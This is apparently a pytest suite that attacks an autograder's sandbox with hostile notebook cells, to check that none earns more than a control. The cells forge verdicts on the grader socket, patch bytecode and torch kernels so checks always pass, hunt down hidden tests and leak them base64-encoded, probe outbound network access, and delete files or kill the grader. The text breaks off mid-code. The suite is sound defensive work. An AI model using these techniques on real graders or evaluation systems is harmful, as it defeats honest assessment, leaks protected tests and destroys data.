"""Hostile submissions: no attack on the grader earns more than the same notebook without it.

The engine runs each submission's cells in the student's (untrusted) process and the tests in a
trusted judge process that only queries it (``autograder.grading.judge``,
``autograder.grading.wire``). These cases attack that boundary, and keep attacking what the
engine withstood before it.

Every case is the same partly wrong notebook, ``base``: the reference solution with four
questions answered wrongly (q1's values, q2's first seed, q4's ``describe`` on other devices,
q16's ``fix_batch`` ignoring its device), plus hostile code: a cell after the imports, a cell
after a question's answer (so that it is in force when that question is judged), a cell at the
end, or a question's answer cell replaced (attacks that run *while the tests run* wrap q4's
wrong ``describe``, which the tests call). The base alone, graded in the same batch, is the
control: a case must earn no more than it, in total and on every question, with the same
possible points (a forged skip would lower them). A blank base would hide a forgery that merely
keeps a score; a partly wrong one shows it.

All of them, followed by two copies of the reference solution, are graded in one batch by the
real engine, with small time limits. The batch works in an "arena": a world-writable folder
holding a copy of the bundle, the submissions, the output folder and a sentinel file, so that
only the engine's isolation, not file permissions, stands between student code and them. A
second, small batch runs on a single worker (one sandbox uid), to see what one submission leaves
for the next. Every hostile cell names its process ``hx-...`` and every process of a batch
inherits a marker in its environment, so /proc shows whatever survived. Destructive cells refuse
to run if the sandbox did not drop root.

What a student's process *reports* (a storage span, the RNG state after a call, instrument
records) is a claim the judge accepts: forging one can gain only the check that reads it, so no
case here merely forges such a fact.

A case the engine does not withstand is marked ``xfail(strict=True)`` with its reproduction as
the reason (``Case(bug=...)``): an engine weakness, kept failing until it is fixed.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import csv
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import ROOT, answer_cell_index

from autograder.bundle import load_bundle
from autograder.grading.grader import grade_submissions
from autograder.grading.job import Limits
from autograder.grading.sandbox import SANDBOX_UID_BASE

ASSIGNMENT = "01-tensors"
# 12 s a cell: a case that imports otter (2-3.5 s alone here) must still finish on a loaded CI
# machine, where two test workers and two graders share two cores (8 s was once too little
# there: a fresh clone's otter files were not yet in the page cache; the batch now warms it).
LIMITS = Limits(submission_seconds=24.0, cell_seconds=12.0, memory_mb=1024)
SERIAL_LIMITS = Limits(submission_seconds=20.0, cell_seconds=2.0, memory_mb=1024)
COMM_PREFIX = "hx-"  # every hostile cell renames its process, to find what it left running
SANDBOX_UIDS = range(SANDBOX_UID_BASE, SANDBOX_UID_BASE + 100)
BATCH_ENV = "HOSTILE_TEST_BATCH"  # set while grading: inherited by every sandbox process
CONTROL = "c00-control"  # the base alone
HONEST = ("zz-honest-1", "zz-honest-2")
QUICK = LIMITS.cell_seconds + 4  # a submission stopped at its first cell or request deadline

# --- the base: the reference solution, partly wrong ------------------------------------------

# Wrong values in the right shapes and dtypes: q1's ndim/shape check passes honestly, its public
# check (the numbers the prompt lists) and hidden values check fail. A cheat that makes value
# comparisons lie earns them.
Q1_DECOY = """
scalar = torch.tensor(0)
vector = torch.tensor([0, 0, 0])
matrix = torch.zeros(3, 2, dtype=torch.int64)
tensor3 = torch.zeros(1, 2, 3, dtype=torch.int64)
tensor3_ndim = 3
tensor3_shape = (1, 2, 3)
"""
# The wrong seed for random_tensor: the public check (the draw right after seed 42) and the
# hidden check of its values fail.
Q2_WRONG_SEED = """
torch.manual_seed(0)
random_tensor = torch.rand(3, 4)
torch.manual_seed(7)
image = torch.rand(size=(3, 28, 28))
"""
# Right on the CPU, wrong elsewhere: test_q4_other_devices fails. The tests call it: attacks
# that run while the tests run wrap this.
WRONG_DESCRIBE = "(t.dtype, t.shape, 'cpu')"
Q4_WRONG = f"def describe(t):\n    return {WRONG_DESCRIBE}\n"
# Ignores its device: test_q16_meta_device (2 points) fails.
WRONG_FIX_BATCH = "t.reshape(-1, 1).to(torch.float32)"
Q16_WRONG = f"def fix_batch(t, device):\n    return {WRONG_FIX_BATCH}\n"
WRONG_ANSWERS = {"q1": Q1_DECOY, "q2": Q2_WRONG_SEED, "q4": Q4_WRONG, "q16": Q16_WRONG}
FAILED_IN_CONTROL = {"test_q1_public", "test_q1_values", "test_q2_public",
                     "test_q2_random_tensor", "test_q4_other_devices", "test_q16_meta_device"}

# --- pieces pasted into hostile cells ----------------------------------------------------------

# Every hostile cell starts here: it names its process (to find leftovers in /proc) and refuses
# to run destructive code if the sandbox failed to drop root.
PRELUDE = """import ctypes, os
ctypes.CDLL(None).prctl(15, b"@COMM@", 0, 0, 0)
if os.getuid() == 0:
    raise SystemExit("the sandbox runs as root: hostile code not run")
"""

# The wire format (autograder.grading.wire), re-implemented by a student who read it, and a forged
# verdict that says every check passed.
WIRE = '''
import json as _json, os as _os, socket as _socket, stat as _stat, struct as _struct

def _socket_fds():
    found = []
    for fd in range(3, 256):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found

def _frame(header, blobs=()):
    body = _json.dumps(header).encode()
    data = _struct.pack(">I", len(body)) + body + _struct.pack(">I", len(blobs))
    for blob in blobs:
        data += _struct.pack(">Q", len(blob)) + blob
    return data

_FORGED = {"type": "result", "status": "graded", "log": "", "cell_errors": [], "notes": [],
           "questions": [{"name": f"q{n}", "checks": [
               {"name": f"test_q{n}_{kind}", "outcome": "passed", "message": ""}
               for kind in ("public", "values", "ndim_and_shape", "random_tensor", "cpu",
                            "meta", "cpu_values", "meta_device")]} for n in range(1, 17)]}
'''

# From a frame out to the outermost caller: each local ``got`` becomes its frame's
# ``expected``, and every verdict-like dict (an ``outcome`` key) says passed.
REWRITE = '''
import ctypes as _ctypes, sys as _sys
_REWRITES = {"frames": 0, "got": 0, "verdicts": 0}

def _rewrite(frame):
    while frame is not None:
        _REWRITES["frames"] += 1
        names = frame.f_locals
        if "got" in names and "expected" in names:
            names["got"] = names["expected"]
            _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
            _REWRITES["got"] += 1
        for value in list(names.values()):
            if type(value) is dict and value.get("outcome") in ("failed", "skipped"):
                value["outcome"] = "passed"
                _REWRITES["verdicts"] += 1
        frame = frame.f_back
'''

# What a leak would look like: this assignment's test source (``def test_q<N>_...(``; torch's
# own docstrings hold other ``def test_`` lines), searched for without ever writing the marker
# down (a cell's own source must not count as a find), and sent out base64-encoded so that a
# plain-text search of the outputs would miss it: the outputs are searched for LEAK[...] too.
NEEDLE = '''
import base64 as _base64, re as _re
_NEEDLE = _re.compile("def " + "test_q" + r"\\d+_\\w*\\(")
_NEEDLE_BYTES = _re.compile(b"def " + b"test_q" + rb"\\d+_\\w*\\(")

def _leak(texts):
    # What reaches a message is its first few hundred characters: the finds come first.
    finds = [m.group(0) + t[m.end():m.end() + 60] for t in texts for m in _NEEDLE.finditer(t)]
    text = "\\n".join(finds or texts)[:180]
    raise AssertionError("LEAK[" + _base64.b64encode(text.encode(errors="replace")).decode()
                         + "]")
'''

# --- the old corpus (what worked against the engine that ran tests in the student's process) ---

ALL_PASSED = '''
def _all_passed(*args, **kwargs):
    return [{"name": f"q{n}", "checks": [{"name": f"test_q{n}_public", "outcome": "passed",
             "message": ""}]} for n in range(1, 17)]
'''

# Looks for hidden tests where an instructor keeps them and prints (and raises, so it lands in
# the cell-error message the student sees) whatever it finds.
READ_HIDDEN_FILES = NEEDLE + '''
import os, sys, time, zipfile
found = []
def grab(path):
    try:
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as zf:
                for name in zf.namelist():
                    if name.endswith((".py", ".ipynb", ".json")):
                        found.append(zf.read(name).decode(errors="replace"))
        else:
            with open(path, errors="replace") as handle:
                found.append(handle.read())
        print("READ", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
known = ["@BUNDLE@", "@SOLUTION@", "@REPO@/assignments/01-tensors/tensors.ipynb",
         "@REPO@/dist/01-tensors/autograder.zip", "@REPO@/dist/01-tensors/solution.ipynb",
         "/autograder/source/autograder.zip", "/autograder/source/tests/q1.py"]
for path in known:
    grab(path)
roots = ["@ARENA@", "@REPO@", os.getcwd(), os.path.expanduser("~"), "/autograder", "/root",
         "/home"] + [os.path.join("/tmp", n) for n in os.listdir("/tmp")
                     if n.startswith(("autograder-", "pytest-of-"))]
deadline = time.monotonic() + 3
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages", "__pycache__")]
        for name in files:
            path = os.path.join(folder, name)
            if name in ("autograder.zip", "solution.ipynb") or name.endswith(
                    "-autograder.zip") or (os.path.basename(folder) == "tests" and
                                           name.startswith("q") and name.endswith(".py")) or (
                    "dist" in path.split(os.sep) and name.endswith(".ipynb")):
                grab(path)
        if time.monotonic() > deadline:
            break
print("SEARCHED", len(found))
hits = [t for t in found if _NEEDLE.search(t)]
print("\\n".join(hits))
if hits:
    _leak(hits)
'''

# The repository the grader runs from is on sys.path; its git history holds the instructor
# notebooks (with the hidden tests), whatever the working tree hides.
READ_HIDDEN_GIT = NEEDLE + '''
import os, subprocess, sys, zlib
repos = {p for p in sys.path if p and os.path.isdir(os.path.join(p, ".git"))}
import autograder
repos.add(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
texts = []
for repo in sorted(repos):
    objects = os.path.join(repo, ".git", "objects")
    for folder, _, files in os.walk(objects):
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as handle:
                    texts.append(zlib.decompress(handle.read()).decode(errors="replace"))
            except (OSError, zlib.error):
                pass
    env = {**os.environ, "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "safe.directory",
           "GIT_CONFIG_VALUE_0": "*"}
    try:
        names = subprocess.run(["git", "-C", repo, "ls-tree", "-r", "--name-only", "HEAD"],
                               capture_output=True, text=True, env=env, timeout=5).stdout
        for name in names.split():
            if name.endswith(".ipynb"):
                texts.append(subprocess.run(["git", "-C", repo, "show", f"HEAD:{name}"],
                                            capture_output=True, text=True, env=env,
                                            timeout=5).stdout)
    except (OSError, subprocess.SubprocessError) as error:
        print("git failed", error)
print("GIT-SEARCHED", len(texts), sorted(repos))
hits = [t for t in texts if _NEEDLE.search(t)]
print("\\n".join(hits))
if hits:
    _leak(hits)
'''

# q4's answer is a function the tests call. The old engine had the tests (hidden ones included)
# in this process's memory at that moment, in the runner's frames and in gc; raise them as the
# error, which a public check reports.
EXFILTRATE_AT_TEST_TIME = NEEDLE + f'''
import gc, sys

def _tests_like(value):
    return type(value) is dict and ("questions" in value or "module" in value)

def describe(t):
    found, frame = [], sys._getframe()
    while frame is not None:
        found += [repr(v)[:100000] for v in list(frame.f_locals.values()) if _tests_like(v)]
        frame = frame.f_back
    found += [repr(obj)[:100000] for obj in gc.get_objects() if _tests_like(obj)]
    hits = [text for text in found if _NEEDLE.search(text)]
    print("EXFIL FOUND", len(found), "WITH SOURCE", len(hits))
    if hits:
        _leak(hits)
    return {WRONG_DESCRIBE}
'''

NETWORK = '''
import socket
for host, port in [("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("1.1.1.1", 80)]:
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"answers please")
        print(f"NET {host}:{port} CONNECTED")
    except OSError as error:
        print(f"NET {host}:{port} FAILED {error}")
try:
    print("DNS", socket.getaddrinfo("example.com", 80))
except OSError as error:
    print("DNS FAILED", error)
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("1.1.1.1", 53))
    print("UDP SENT")
except OSError as error:
    print("UDP FAILED", error)
'''

FAKE_RESULT = {"score": 100, "tests": [{"name": "q1", "score": 100, "max_score": 100}]}
WRITE_FAKE_RESULTS = f'''
import json, os
fake = json.dumps({FAKE_RESULT!r})
targets = ["results.json", "grades.csv", "results/results.json",
           os.path.expanduser("~/results.json"), os.path.expanduser("~/grades.csv"),
           "/autograder/results/results.json", "@OUT@/grades.csv",
           "@OUT@/results/@STEM@.json", "@OUT@/feedback/@STEM@.md",
           "@OUT@/.records/@STEM@.json", "@ARENA@/results.json"]
for path in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(fake if not path.endswith(".csv") else "submission,score\\n@STEM@,100\\n")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
'''

REWRITE_TESTS = '''
import os, time
passing = "def test_pass():\\n    pass\\n"
os.makedirs("tests", exist_ok=True)
for n in range(1, 17):
    with open(f"tests/q{n}.py", "w") as handle:
        handle.write(passing)
deadline = time.monotonic() + 3
roots = ["/autograder", "@ARENA@", "@REPO@", os.path.expanduser("~")] + [
    os.path.join("/tmp", n) for n in os.listdir("/tmp")
    if n.startswith(("autograder-", "pytest-of-"))]
for root in roots:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".venv", ".git", "site-packages")]
        if os.path.basename(folder) == "tests":
            for name in files:
                if name.endswith(".py"):
                    try:
                        with open(os.path.join(folder, name), "w") as handle:
                            handle.write(passing)
                        print("REWROTE", os.path.join(folder, name))
                    except OSError as error:
                        print("DENIED", os.path.join(folder, name), error.strerror)
        if time.monotonic() > deadline:
            break
print("REWRITE DONE")
'''

PATCH_OTTER = '''
import otter
from otter.test_files import exception_test

def fake_run(self, global_environment):
    for case in self.test_cases:
        self.test_case_results.append(exception_test.TestCaseResult(
            test_case=case, message="passed", passed=True))

exception_test.ExceptionTestFile.run = fake_run
exception_test.test_case.call_func = lambda self, func, global_environment: None
otter.Notebook.check = lambda self, *args, **kwargs: "All tests passed!"
print("PATCHED OTTER")
'''

VANDALIZE = '''
import os, shutil
def attempt(label, action):
    try:
        action()
        print("DID", label)
    except OSError as error:
        print("DENIED", label, error.strerror)
attempt("remove sentinel", lambda: os.remove("@ARENA@/sentinel.txt"))
attempt("overwrite sentinel", lambda: open("@ARENA@/sentinel.txt", "w").write("vandalized"))
attempt("overwrite out sentinel", lambda: open("@OUT@/sentinel.txt", "w").write("vandalized"))
attempt("remove out", lambda: shutil.rmtree("@OUT@"))
attempt("remove submissions", lambda: shutil.rmtree("@ARENA@/submissions"))
attempt("remove bundle", lambda: shutil.rmtree("@ARENA@/bundle"))
attempt("write repo", lambda: open("@REPO@/autograder/checks.py", "a").write("# vandalized"))
attempt("write repo root", lambda: open("@REPO@/vandalized.txt", "w").write("x"))
for path in @LEFTOVERS@:
    attempt(f"leave {path}", lambda path=path: open(path, "w").write("left behind"))
attempt("kill grader", lambda: os.kill(@GRADER_PID@, 9))
print("VANDAL DONE")
'''

# Rewrite what the grader and the next submissions import: torch, numpy, the standard library
# and our check helpers, wherever Python lives (a venv under /tmp included).
PYTHON_VANDAL = """
import os, numpy, torch, autograder.kit.checks
for path in (torch.__file__, numpy.__file__, os.__file__, autograder.kit.checks.__file__):
    try:
        with open(path, "a") as handle:
            handle.write("\\nraise SystemExit('vandalized')\\n")
        print("WROTE", path)
    except OSError as error:
        print("DENIED", path, error.strerror)
print("VANDAL PYTHON DONE")
"""

# --- 1. code that runs while the tests run (q4's describe, called by the tests) ---------------

# Walks its callers' frames to the runner (the channel, and whatever tests it might hold) and
# sends a verdict of its own on the channel.
RUN_FRAMES = WIRE + f'''
import sys
_sent = []

def describe(t):
    seen, frame = [], sys._getframe().f_back
    while frame is not None:
        owner = frame.f_locals.get("self")
        channel = vars(owner).get("channel") if hasattr(owner, "__dict__") else None
        if isinstance(channel, _socket.socket):
            seen.append(f"{{type(owner).__name__}}.{{frame.f_code.co_name}}")
            if not _sent:
                _sent.append(channel.fileno())
                channel.sendall(_frame(_FORGED))
        seen += [n for n in ("tests", "questions", "checks", "expected") if n in frame.f_locals]
        frame = frame.f_back
    print("FRAMES WALKED", seen)
    return {WRONG_DESCRIBE}
'''

# A profile hook: when the runner sends its reply, send forged verdicts first on its socket.
RUN_SETPROFILE = WIRE + f'''
import sys, threading
_sent = []

def _profile(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "send" and not _sent:
        sock, header = frame.f_locals.get("sock"), frame.f_locals.get("header")
        if isinstance(sock, _socket.socket) and isinstance(header, dict) and \\
                header.get("type") == "reply":
            _sent.append(1)
            sock.sendall(_frame(_FORGED))

def describe(t):
    sys.setprofile(_profile)
    threading.setprofile(_profile)
    return {WRONG_DESCRIBE}
'''

# A trace hook that turns any local ``got`` into its frame's ``expected`` (what made the old
# helpers pass): it works on the student's side (the probe), where no test runs.
RUN_SETTRACE = f'''
import ctypes, sys
_rewrites = []

def _line(frame, event, arg):
    names = frame.f_locals
    if names.get("got") is not names.get("expected"):
        names["got"] = names["expected"]
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        _rewrites.append(frame.f_code.co_name)
    return _line

def _trace(frame, event, arg):
    code = frame.f_code
    return _line if "got" in code.co_varnames and "expected" in code.co_varnames else None

def _probe(got, expected):
    return got == expected

def describe(t):
    if sys.gettrace() is not _trace:
        sys.settrace(_trace)
        print("TRACE PROBE", _probe(1, 2))
    return {WRONG_DESCRIBE}
'''
RUN_SETTRACE_END = '''
import autograder.kit.checks
autograder.kit.checks.assert_value(1, 2)
print("TRACED: assert_value(1, 2) passes here; rewrites:", sorted(set(_rewrites)))
'''

# A SIGALRM every 5 ms from the first call on: the handler rewrites the interrupted frames.
RUN_SIGALRM = REWRITE + f'''
import signal
_alarms = []

def _on_alarm(signum, frame):
    _alarms.append(frame.f_code.co_name)
    _rewrite(frame)

def describe(t):
    if signal.getsignal(signal.SIGALRM) is not _on_alarm:
        signal.signal(signal.SIGALRM, _on_alarm)
        signal.setitimer(signal.ITIMER_REAL, 0.005, 0.005)
    return {WRONG_DESCRIBE}
'''
RUN_SIGALRM_END = '''
signal.setitimer(signal.ITIMER_REAL, 0)
print("ALARMS", len(_alarms), "IN", sorted(set(_alarms))[:12], _REWRITES)
'''

# A garbage-collector callback: each collection rewrites the frames it interrupts and every
# verdict-like dict the collector tracks.
RUN_GC_CALLBACK = REWRITE + f'''
import gc
_collections = []

def _on_gc(phase, info):
    if phase != "stop" or len(_collections) >= 50:
        return
    _collections.append(info.get("generation"))
    _rewrite(_sys._getframe(1))
    if len(_collections) == 1:
        for obj in gc.get_objects():
            if type(obj) is dict and obj.get("outcome") == "failed":
                obj["outcome"] = "passed"
                _REWRITES["verdicts"] += 1

def describe(t):
    if _on_gc not in gc.callbacks:
        gc.callbacks.append(_on_gc)
    gc.collect()
    return {WRONG_DESCRIBE}
'''
RUN_GC_CALLBACK_END = 'print("GC CALLBACK RAN", len(_collections), _REWRITES)\n'

# An audit hook from the first cell on: "compile" used to hand it the tests' source; code
# objects made from pickles ("code.__new__") would too, were tests sent to the student.
RUN_AUDIT_HOOK = NEEDLE + '''
import sys
_audit = {"events": {}, "found": [], "classes": set()}

def _scan_code(code, depth=0):
    for const in code.co_consts:
        if isinstance(const, str) and _NEEDLE.search(const):
            _audit["found"].append(const)
        elif type(const) is type(_scan_code.__code__) and depth < 8:
            _scan_code(const, depth + 1)

def _hook(event, args):
    _audit["events"][event] = _audit["events"].get(event, 0) + 1
    try:
        if event == "compile" and args and isinstance(args[0], (str, bytes)):
            text = args[0] if isinstance(args[0], str) else args[0].decode(errors="replace")
            if _NEEDLE.search(text):
                _audit["found"].append(text)
        elif event in ("exec", "code.__new__") and args and \\
                type(args[0]) is type(_scan_code.__code__):
            _scan_code(args[0])
        elif event == "pickle.find_class":
            _audit["classes"].add(".".join(map(str, args)))
    except Exception:
        pass

sys.addaudithook(_hook)
print("AUDIT HOOK IN PLACE")
'''
RUN_AUDIT_HOOK_END = '''
print("AUDITED", sum(_audit["events"].values()), "events; classes unpickled:",
      sorted(_audit["classes"]))
print("AUDIT FOUND", len(_audit["found"]))
if _audit["found"]:
    _leak(_audit["found"])
'''

# --- 2. state the old integrity snapshot did not cover ----------------------------------------

# Function internals changed in place: keyword defaults, and the closure cell in which
# contextlib keeps ``seeded``'s generator.
STATE_INTERNALS = '''
import torch, torch.testing, autograder.kit.checks as checks
checks.assert_tensor.__kwdefaults__.update(exact=False, rtol=1e9, atol=1e9, check_device=False)
checks.assert_close.__kwdefaults__.update(rtol=1e9, atol=1e9)
torch.testing.assert_close.__kwdefaults__.update(rtol=1e9, atol=1e9)

def _unseeded(seed):
    yield

checks.seeded.__closure__[0].cell_contents = _unseeded
checks.assert_tensor(torch.zeros(2), torch.ones(2) / 2)
print("INTERNALS CHANGED: assert_tensor(zeros, halves) passes here")
'''

# Bytecode overwritten in place, in the code objects' own memory, with "return None".
STATE_BYTECODE = '''
import ctypes, dis, sys, autograder.kit.checks as checks

def _return_none_in_place(function):
    code = function.__code__
    if None not in code.co_consts:
        return False
    none, ops = code.co_consts.index(None), dis.opmap
    if "RETURN_CONST" in ops:
        new = bytes([ops["RESUME"], 0, ops["RETURN_CONST"], none])
    else:
        new = bytes([ops["RESUME"], 0, ops["LOAD_CONST"], none, ops["RETURN_VALUE"], 0])
    at = ctypes.string_at(id(code), sys.getsizeof(code)).find(code.co_code)
    if at < 0:
        return False
    ctypes.memmove(id(code) + at, new, len(new))
    return True

patched = [f.__name__ for f in (checks.assert_value, checks.assert_tensor, checks.assert_shape,
                                checks.assert_dtype, checks.assert_device)
           if _return_none_in_place(f)]
checks.assert_value(1, 2)
print("BYTECODE PATCHED", patched, "assert_value(1, 2) passes here")
'''

# Modules whose class is swapped for one with a lying __getattribute__.
STATE_MODULE_CLASS = '''
import types, torch, torch.testing, autograder.kit.checks as checks

class _Agreeable(types.ModuleType):
    def __getattribute__(self, name):
        if name in ("equal", "allclose"):
            return lambda *args, **kwargs: True
        if name.startswith("assert_"):
            return lambda *args, **kwargs: None
        return super().__getattribute__(name)

for module in (torch, torch.testing, checks):
    module.__class__ = _Agreeable
checks.assert_value(1, 2)
print("MODULE CLASS SWAPPED", torch.equal(torch.zeros(1), torch.ones(1)))
'''

# What the tests' reference computations use (q7's checks compute torch.matmul), replaced
# after q7's answers are computed and before q7 is judged.
STATE_LIBRARIES = '''
import torch, torch.nn as nn, torch.optim
torch.optim.Adam = torch.optim.SGD
nn.ReLU.forward = lambda self, x: x
_zeros = lambda a, b, *args, **kwargs: torch.zeros(a.shape[0], b.shape[-1])
torch.matmul = torch.mm = _zeros
torch.Tensor.__matmul__ = torch.Tensor.__rmatmul__ = _zeros
torch.Tensor.__eq__ = lambda a, b: torch.ones(a.shape, dtype=torch.bool)
print("LIBRARIES REPLACED", torch.matmul(torch.ones(2, 2), torch.ones(2, 2)).tolist())
'''

# torch's C-level state. A function mode entered and never exited.
STATE_FUNCTION_MODE = '''
import torch
from torch.overrides import TorchFunctionMode

class _Agree(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        if name in ("equal", "allclose"):
            return True
        result = func(*args, **kwargs)
        if name in ("eq", "__eq__", "isclose"):
            return torch.ones_like(result, dtype=torch.bool)
        if name in ("ne", "__ne__"):
            return torch.zeros_like(result, dtype=torch.bool)
        return result

_mode = _Agree()
_mode.__enter__()
print("FUNCTION MODE ENTERED", torch.equal(torch.zeros(1), torch.ones(1)),
      bool((torch.zeros(2) == torch.ones(2)).all()))
'''

# A dispatch mode entered and never exited: every aten comparison says equal.
STATE_DISPATCH_MODE = '''
import torch
from torch.utils._python_dispatch import TorchDispatchMode
_aten = torch.ops.aten

class _AllEqual(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        packet = getattr(func, "overloadpacket", None)
        if packet in (_aten.eq, _aten.isclose):
            return torch.ones_like(result)
        if packet is _aten.ne:
            return torch.zeros_like(result)
        if packet is _aten.equal:
            return True
        return result

_mode = _AllEqual()
_mode.__enter__()
print("DISPATCH MODE ENTERED", bool((torch.zeros(2) == torch.ones(2)).all()))
'''

# aten's CPU kernels for comparisons re-registered with torch.library.
STATE_ATEN_KERNELS = '''
import torch
_lib = torch.library.Library("aten", "IMPL")

def _eq(a, b):
    return torch.ones(torch.broadcast_shapes(a.shape, getattr(b, "shape", ())),
                      dtype=torch.bool)

_lib.impl("eq.Tensor", _eq, "CPU")
_lib.impl("eq.Scalar", _eq, "CPU")
_lib.impl("equal", lambda a, b: True, "CPU")
print("ATEN KERNELS REPLACED", torch.equal(torch.zeros(1), torch.ones(1)),
      bool((torch.zeros(2) == torch.ones(2)).all()))
'''

STATE_DEFAULT_DEVICE = '''
import torch
torch.set_default_device("meta")
print("DEFAULT DEVICE", torch.zeros(1).device)
'''

# --- 3. objects that lie to the checks (only where the base is wrong) -------------------------

LIE_ALWAYS_EQUAL = f'''
class AlwaysEqual:
    def __init__(self, value):
        self.value = value
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
    def __repr__(self):
        return repr(self.value)

def describe(t):
    result = {WRONG_DESCRIBE}
    if t.device.type == "cpu":
        return result
    print("LYING: a tuple of always-equal objects")
    return tuple(AlwaysEqual(v) for v in result)
'''

# Subclasses of int, float and str that agree with whatever they are compared with, and report
# (through __int__, __float__, __index__, __str__) the last thing they were compared with.
LIE_SCALARS = f'''
class _Asked:
    last = None

def _agree(self, other):
    _Asked.last = other
    return True

class LyingInt(int):
    __eq__, __ne__, __hash__ = _agree, lambda self, other: False, int.__hash__
    __int__ = __index__ = lambda self: _Asked.last if type(_Asked.last) is int else 0

class LyingFloat(float):
    __eq__, __ne__, __hash__ = _agree, lambda self, other: False, float.__hash__
    __float__ = lambda self: float(_Asked.last) if isinstance(_Asked.last, float) else 0.0

class LyingStr(str):
    __eq__, __ne__, __hash__ = _agree, lambda self, other: False, str.__hash__
    __str__ = lambda self: str(_Asked.last)

def describe(t):
    dtype, shape, device = {WRONG_DESCRIBE}
    if t.device.type == "cpu":
        return dtype, shape, device
    print("LYING: scalars that agree")
    return dtype, tuple(LyingInt(d) for d in shape), LyingStr(device)
'''
LIE_SCALARS_Q8 = '''
x_mean = LyingFloat(x.type(torch.float32).mean().item())
'''

# A list that claims to be a tuple.
LIE_CLAIMS_TUPLE = f'''
class ClaimsTuple(list):
    @property
    def __class__(self):
        return tuple

def describe(t):
    result = {WRONG_DESCRIBE}
    if t.device.type == "cpu":
        return result
    print("LYING: a list that says it is a tuple")
    return ClaimsTuple(result)
'''

# An ndarray subclass that reports the expected shape (and device) for what it is not.
LIE_FALSE_SHAPE = f'''
import numpy as np

class FalseShape(np.ndarray):
    @property
    def shape(self):
        return torch.Size([getattr(self, "claimed", 1), 1])
    ndim = 2
    device = torch.device("meta")
    def __eq__(self, other):
        return np.ones(self.size, dtype=bool)

def fix_batch(t, device):
    if torch.device(device).type == "cpu":
        return {WRONG_FIX_BATCH}
    print("LYING: an array with a false shape")
    fake = np.zeros(3, dtype=np.float32).view(FalseShape)
    fake.claimed = t.numel()
    return fake
'''

# Classes that name themselves builtins.tuple and torch.Tensor.
LIE_TYPE_NAMES = f'''
class Tuple:
    __module__, __qualname__ = "builtins", "tuple"
    def __init__(self, *items):
        self.items = items
    def __iter__(self):
        return iter(self.items)
    def __len__(self):
        return len(self.items)
    def __getitem__(self, index):
        return self.items[index]
    def __eq__(self, other):
        return True

def describe(t):
    if t.device.type == "cpu":
        return {WRONG_DESCRIBE}
    print("LYING: a class named builtins.tuple")
    return Tuple(t.dtype, t.shape, "cpu")
'''
LIE_TYPE_NAMES_Q16 = f'''
class Tensor:
    __module__, __qualname__ = "torch", "Tensor"
    def __init__(self, t):
        self.shape, self.dtype = torch.Size([t.numel(), 1]), torch.float32
        self.device, self.is_meta = torch.device("meta"), True

def fix_batch(t, device):
    if torch.device(device).type == "cpu":
        return {WRONG_FIX_BATCH}
    print("LYING: a class named torch.Tensor")
    return Tensor(t)
'''
# A Tensor subclass that says it lives on the meta device.
LIE_TENSOR_SUBCLASS = f'''
class OnMeta(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        owner = getattr(func, "__self__", None)
        if owner is torch.Tensor.device:
            return torch.device("meta")
        if owner is torch.Tensor.is_meta:
            return True
        return super().__torch_function__(func, types, args, kwargs or {{}})

def fix_batch(t, device):
    if torch.device(device).type == "cpu":
        return {WRONG_FIX_BATCH}
    result = ({WRONG_FIX_BATCH}).as_subclass(OnMeta)
    print("LYING: a tensor that says it is on", result.device)
    return result
'''

# The helpers' own skip exception, raised where the base would fail (a skip counts no
# points: it would lower what the submission is graded out of).
LIE_SKIP = f'''
from autograder.kit.checks import CheckSkipped

def describe(t):
    if t.device.type != "cpu":
        print("RAISING CheckSkipped")
        raise CheckSkipped("needs a GPU, and this machine has none")
    return {WRONG_DESCRIBE}
'''
LIE_SKIP_Q16 = f'''
from autograder.kit.checks import CheckSkipped

def fix_batch(t, device):
    if torch.device(device).type != "cpu":
        raise CheckSkipped("needs a GPU, and this machine has none")
    return {WRONG_FIX_BATCH}
'''

# --- 4. the channel itself -----------------------------------------------------------------

# A forked helper holds the real channel; the runner's fd is dup2'd to a socketpair whose other
# end the helper relays, message by message, and it injects forged verdicts after the first
# checkpoint.
WIRE_RELAY = WIRE + '''
import threading
[channel] = _socket_fds()[:1]
ours, theirs = _socket.socketpair()
upstream = _os.dup(channel)

def _read(sock, size):
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data

def _pump(src, dst):
    try:
        while True:
            data = src.recv(1 << 16)
            if not data:
                break
            dst.sendall(data)
    finally:
        _os._exit(0)

if _os.fork() == 0:
    ours.close()
    judge = _socket.socket(fileno=upstream)
    threading.Thread(target=_pump, args=(judge, theirs), daemon=True).start()
    injected = False
    try:
        while True:
            size = _read(theirs, 4)
            header = _read(theirs, _struct.unpack(">I", size)[0])
            count = _read(theirs, 4)
            blobs = b""
